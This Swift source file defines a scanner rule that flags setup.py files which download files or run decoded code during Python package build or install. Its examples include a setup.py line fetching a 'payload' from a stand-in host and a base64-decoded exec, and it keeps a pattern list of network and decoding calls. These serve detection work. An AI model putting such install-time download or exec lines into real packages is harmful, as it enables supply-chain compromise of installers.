import BulwarkCore
import BulwarkFormats
import Foundation

/// setup.py files that reach the network or evaluate code when the package is built or installed.
struct SetupPyBuildExecRule: Rule {
    typealias Model = DependencyModel
    static let rule = RuleDescription(
        id: "dep-setup-py-build-exec", name: "setup.py downloads or executes code at build time", family: "dependencies",
        summary: "setup.py downloads files or evaluates decoded code while the package is built or installed.",
        rationale: rationale(
            detects: "In `setup.py`: network access (`urllib.request`, `urlopen`, `urlretrieve`, `requests.get/post`, `http.client`, `socket.connect`, `curl`/`wget` in shell commands), evaluation of dynamic or encoded code (`exec(`/`eval(` with `base64`, `codecs.decode`, `zlib.decompress`, `marshal.loads`, `compile(`), and shell commands that pipe a download into an interpreter. Ordinary `subprocess` calls (such as asking git for the version) are not reported.",
            matters: "`pip install` of a source distribution runs setup.py with the installing user's privileges. Malicious PyPI packages (the 2017 typosquats, many later campaigns) put their payload exactly there: it runs before anyone imports the package and even when the install then fails.",
            fix: "Remove network access and dynamic evaluation from setup.py: ship data in the sdist, declare build dependencies in `pyproject.toml` `[build-system]`, and prefer wheels.",
            references: ["[PEP 517: build backends](https://peps.python.org/pep-0517/)",
                         "[CWE-506: Embedded Malicious Code](https://cwe.mitre.org/data/definitions/506.html)"]),
        defaultSeverity: .high, defaultConfidence: .medium,
        remediation: "Remove network access and code evaluation from setup.py; ship data in the sdist.",
        examples: [
            Example(.triggers, path: "setup.py", """
            import base64
            from setuptools import setup
            exec(base64.b64decode("cHJpbnQoJ2hpJyk=")) # <-
            setup(name="helper", version="1.0")
            """, commentPrefix: "#"),
            Example(.triggers, path: "setup.py", """
            import urllib.request
            from setuptools import setup
            urllib.request.urlretrieve("https://x.example/payload", "/tmp/p") # <-
            setup(name="helper")
            """, commentPrefix: "#"),
            Example(.clean, path: "setup.py", """
            import subprocess
            from setuptools import setup
            version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
            setup(name="helper", version=version)
            """),
        ])
    var description: RuleDescription { Self.rule }

    static let network = ["urllib.request", "urlopen(", "urlretrieve(", "requests.get(", "requests.post(", "http.client", "httpx.get(",
                          "socket.socket(", ".connect((", "curl ", "wget ", "invoke-webrequest", "pip install", "pip.main("]
    static let dynamic = ["base64", "b64decode", "codecs.decode", "zlib.decompress", "marshal.loads", "compile(", "bytes.fromhex", "\\x"]

    func check(_ model: DependencyModel, context: RuleContext) -> [Finding] {
        guard model.kind == .setupPy, let text = model.file.text else { return [] }
        var out: [Finding] = []
        let lines = text.split(separator: "\n", omittingEmptySubsequences: false)
        let whole = text.lowercased()
        let decodes = Self.dynamic.contains { whole.contains($0) }
        for (i, raw) in lines.enumerated() {
            let l = raw.trimmingCharacters(in: .whitespaces)
            if l.hasPrefix("#") { continue }
            let low = l.lowercased()
            if low.hasPrefix("import ") || low.hasPrefix("from ") { continue }
            var reason: String?
            if Self.network.contains(where: low.contains) { reason = "reaches the network" }
            else if (low.contains("exec(") || low.contains("eval(")) && (decodes || low.contains("compile(")) { reason = "evaluates decoded or generated code" }
            guard let r = reason else { continue }
            out.append(Finding(rule: Self.rule, message: "setup.py \(r) at build/install time: `\(l.prefix(140))`.",
                               location: context.location(line: i + 1), anchor: l))
        }
        return out
    }
}
